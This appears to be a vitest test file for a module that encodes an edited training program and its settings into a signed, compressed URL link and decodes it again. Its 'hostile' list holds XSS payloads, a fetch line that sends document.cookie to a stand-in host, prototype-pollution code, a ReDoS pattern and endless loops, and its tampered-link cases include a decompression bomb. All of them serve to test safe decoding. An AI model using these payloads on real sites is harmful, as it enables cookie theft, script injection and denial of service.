import { describe, expect, it } from 'vitest';
import { readBenchLink, writeBenchLink } from '../../../src/book/bench-link/bench-link.ts';
import type { BenchLink } from '../../../src/book/bench-link/bench-link.ts';
import { packText } from '../../../src/book/bench-link/packed-text.ts';
import { fingerprint } from '../../../src/book/fingerprint.ts';
import { edited } from '../../lab/run-program.ts';
import { fixtureProgram } from '../../fixture/programs.ts';
import { createRandom, drawUniform } from '../../../src/engine/mulberry32.ts';

const original = fixtureProgram('xor');
const bench = 'cases/xor/program.ts';
const originalOf = (name: string) => (name === bench ? original : undefined);
const there = async (link: BenchLink, base = original) =>
  readBenchLink(await writeBenchLink(link, base), originalOf);

/** A link of any content, signed as it should be. */
async function linkOf(content: unknown, version = '1'): Promise<string> {
  const packed = await packText(typeof content === 'string' ? content : JSON.stringify(content));
  return `bench=${version}.${fingerprint(packed)}.${packed}`;
}

describe('a bench in a link', () => {
  it('comes back as it was, in less than 2 kB', async () => {
    const link: BenchLink = {
      bench,
      text: edited(
        original,
        ['(x >= 0 ? 1 : 0)', '(x > 0 ? 1 : 0)'],
        ['learningRate = 0.2', 'learningRate = 0.1'],
      ),
      seed: 7,
      predicted: 'partly',
      update: 1_234,
      epochs: 500,
      hints: true,
      pane: 'plane',
      sample: 2,
    };
    const hash = await writeBenchLink(link, original);
    expect(hash.length).toBeLessThan(2_000);
    expect(await there(link)).toEqual({ kind: 'opened', link });
  });

  it('holds a whole program where there is no original', async () => {
    const hash = await writeBenchLink({ bench: 'workshop', text: original });
    expect(hash.length).toBeLessThan(2_000);
    expect(await readBenchLink(hash, () => '')).toEqual({
      kind: 'opened',
      link: { bench: 'workshop', text: original },
    });
  });

  it('opens as it did when links held nothing of what was in view', async () => {
    const made =
      'bench=1.72lpx51i7r.Jcs9CsMwDIDRq4hv1mBCJoUMvUeX_AgS0lomdmmh5O4d-vb3ZcZ4x3nULQpKw_BPibPJErk28RLLVmWULg33jJKnp2Pc5LFnR6nuK9Yrr7JOzbE-Kf-Fden6AQ';
    expect(await readBenchLink(made, () => '')).toEqual({
      kind: 'opened',
      link: {
        bench: 'workshop',
        name: 'A line',
        text: 'export const epochs = 20;\n',
        seed: 4,
        update: 40,
        epochs: 20,
      },
    });
  });

  it('leaves an original program out', async () => {
    expect((await writeBenchLink({ bench, text: original }, original)).length).toBeLessThan(120);
    expect(await there({ bench, text: original })).toEqual({ kind: 'opened', link: { bench } });
  });

  it('is of no concern to an address without one', async () => {
    for (const hash of ['', '#', '#the-symptom', '#run-cases', 'benches=1'])
      expect(await readBenchLink(hash, originalOf)).toEqual({ kind: 'none' });
  });

  it('comes back as it was for any edits, line by line', async () => {
    const generator = createRandom(5);
    const random = () => drawUniform(generator);
    const lines = original.split('\n');
    for (let round = 0; round < 60; round++) {
      const text = lines
        .flatMap((line) => {
          const draw = random();
          if (draw < 0.05) return [];
          if (draw < 0.1) return [line, `// ${String(random())}`];
          return draw < 0.15 ? [`${line} `] : [line];
        })
        .join('\n');
      expect(await there({ bench, text })).toEqual({
        kind: 'opened',
        link: { bench, ...(text !== original && { text }) },
      });
    }
  });

  it('opens on a later version of the program where its changes still fit, and says so', async () => {
    const earlier = original.replace('// XOR from scratch', '// An older comment');
    const text = earlier.replace('x >= 0', 'x > 0');
    const read = await there({ bench, text }, earlier);
    expect(read).toMatchObject({
      kind: 'opened',
      link: { text: original.replace('x >= 0', 'x > 0') },
      note: expect.stringContaining('earlier version') as string,
    });
  });

  it('says what it changed where that fits no longer', async () => {
    const earlier = original.replace('(x >= 0 ? 1 : 0)', 'x >= 0 ? 1.0 : 0.0');
    const read = await there({ bench, text: earlier.replace('x >= 0', 'x > 0') }, earlier);
    expect(read).toMatchObject({
      kind: 'failed',
      message: expect.stringContaining('x > 0 ? 1.0 : 0.0') as string,
    });
  });
});

/** Texts that would do harm if they ran, or if they were taken for a page's own. */
const hostile: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</pre><iframe srcdoc="<script>top.x=1</script>">',
  '"><svg onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  'for (;;) {}',
  'while (true) new Array(1e9).fill(0);',
  'fetch("https://example.org/" + document.cookie)',
  'import("data:text/javascript,alert(1)")',
  'import x from "https://example.org/x.js";',
  'importScripts("https://example.org/x.js")',
  'localStorage.clear()',
  'indexedDB.deleteDatabase("x")',
  'parent.postMessage("x", "*")',
  'top.location = "https://example.org"',
  'new Worker("data:,")',
  'new WebSocket("wss://example.org")',
  'eval("1")',
  'new Function("return this")()',
  'Object.prototype.polluted = 1;',
  '({}).__proto__.polluted = 1;',
  'Array.prototype.map = null;',
  'globalThis.postMessage = () => {};',
  'export const data = new Proxy({}, {});',
  'export function create() { return create(); }',
  'export const x = "\u0000\u0001\u0002";',
  '\u202E\u2066 right to left \u2069',
  '\u{1F4A3}'.repeat(1_000),
  '\uFEFF// a mark at the start',
  '// \u2028 line separator \u2029',
  'a\r\nb\rc\n',
  ' '.repeat(50_000),
  '\n'.repeat(20_000),
  '('.repeat(50_000),
  'x'.repeat(199_000),
  '/^(a+)+$/.test("a".repeat(50) + "b")',
  'debugger;',
  'setInterval(() => {}, 0);',
];

describe('a hostile program in a link', () => {
  it.each(hostile.map((text, n): [string, string] => [`${n}: ${JSON.stringify(text.slice(0, 40))}`, text]))(
    '%s comes as the text it is, and as nothing else',
    async (_name, text) => {
      const read = await readBenchLink(await writeBenchLink({ bench, text }, original), originalOf);
      expect(read).toEqual({ kind: 'opened', link: { bench, text } });
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    },
  );
});

describe('a link that is broken or was tampered with', async () => {
  const whole = await writeBenchLink({ bench, text: original.replace('x >= 0', 'x > 0'), seed: 3 }, original);
  const [mark, sum, content] = whole.split('.') as [string, string, string];
  const from = fingerprint(original);
  const bomb = await packText('x'.repeat(20_000_000));
  const tampered: [string, string][] = [
    ['nothing after its name', 'bench='],
    ['a version alone', 'bench=1'],
    ['a version and a dot', 'bench=1.'],
    ['no content', `bench=1.${sum}.`],
    ['no fingerprint', `bench=1..${content}`],
    ['another fingerprint', `bench=1.${fingerprint('x')}.${content}`],
    ['one letter less', whole.slice(0, -1)],
    ['half of it', whole.slice(0, whole.length / 2)],
    ['one letter more', `${whole}A`],
    ['a part more', `${whole}.x`],
    [
      'two letters exchanged',
      `${mark}.${sum}.${content.slice(1, 2)}${content.slice(0, 1)}${content.slice(2)}`,
    ],
    ['capitals made small', `${mark}.${sum}.${content.toLowerCase()}`],
    ['a newer version', `bench=2.${sum}.${content}`],
    ['a version far away', `bench=9999.${sum}.${content}`],
    ['a version that is none', `bench=x.${sum}.${content}`],
    ['a version below the first', `bench=0.${sum}.${content}`],
    ['letters outside the alphabet', `bench=1.${fingerprint('+/=')}.+/=`],
    ['escapes of an address', `bench=1.${fingerprint('%41')}.%41`],
    ['bytes that unpack to nothing', `bench=1.${fingerprint('AAAA')}.AAAA`],
    ['what unpacks to 20 million letters', `bench=1.${fingerprint(bomb)}.${bomb}`],
    ['a million letters', `bench=1.${fingerprint('A'.repeat(1_000_000))}.${'A'.repeat(1_000_000)}`],
    ['no JSON', await linkOf('{"b":')],
    ['a number', await linkOf('7')],
    ['null', await linkOf('null')],
    ['a list', await linkOf([])],
    ['no bench', await linkOf({})],
    ['a bench that is a number', await linkOf({ b: 5 })],
    ['a bench of this page’s neighbour', await linkOf({ b: 'cases/other/program.ts' })],
    ['a bench named __proto__', await linkOf('{"b":"__proto__"}')],
    ['a seed below 0', await linkOf({ b: bench, seed: -1 })],
    ['a seed that is no whole number', await linkOf({ b: bench, seed: 1.5 })],
    ['a seed that is text', await linkOf({ b: bench, seed: '1' })],
    ['a seed of more than 32 bits', await linkOf({ b: bench, seed: 2 ** 32 })],
    ['no epochs', await linkOf({ b: bench, epochs: 0 })],
    ['a prediction with a tag', await linkOf({ b: bench, predicted: '<b>' })],
    ['hints that are a text', await linkOf({ b: bench, hints: 'yes' })],
    ['a pane that is none', await linkOf({ b: bench, pane: 'diagnosis' })],
    ['a sample before the first', await linkOf({ b: bench, sample: -1 })],
    ['differences that are a text', await linkOf({ b: bench, d: 'x', f: from })],
    ['a difference with too few parts', await linkOf({ b: bench, d: [[1, 0, []]], f: from })],
    ['a difference below the first line', await linkOf({ b: bench, d: [[-1, 0, [], ['x']]], f: from })],
    ['a difference beyond the last line', await linkOf({ b: bench, d: [[100_000, 0, [], ['x']]], f: from })],
    [
      'differences that overlap',
      await linkOf({
        b: bench,
        d: [
          [5, 0, [], ['x']],
          [4, 0, [], ['y']],
        ],
        f: from,
      }),
    ],
    ['lines that are not there', await linkOf({ b: bench, d: [[0, 0, ['not there'], []]], f: from })],
    ['differences without an original', await linkOf({ b: bench, d: [[0, 0, [], ['x']]] })],
    [
      'differences that repeat a fingerprint of 0',
      await linkOf({ b: bench, d: [[0, 0, [], ['x']]], f: '0' }),
    ],
    ['a program that is too long', await linkOf({ b: bench, t: 'x'.repeat(200_001) })],
  ];

  it.each(tampered)('with %s gets a sentence, and throws nothing', async (_name, hash) => {
    const read = await readBenchLink(hash, originalOf);
    expect(read.kind).toBe('failed');
    expect(read.kind === 'failed' && read.message).toMatch(/^[A-Z].+\.$/s);
  });

  it('is tampered with in at least forty ways', () => expect(tampered.length).toBeGreaterThanOrEqual(40));
});
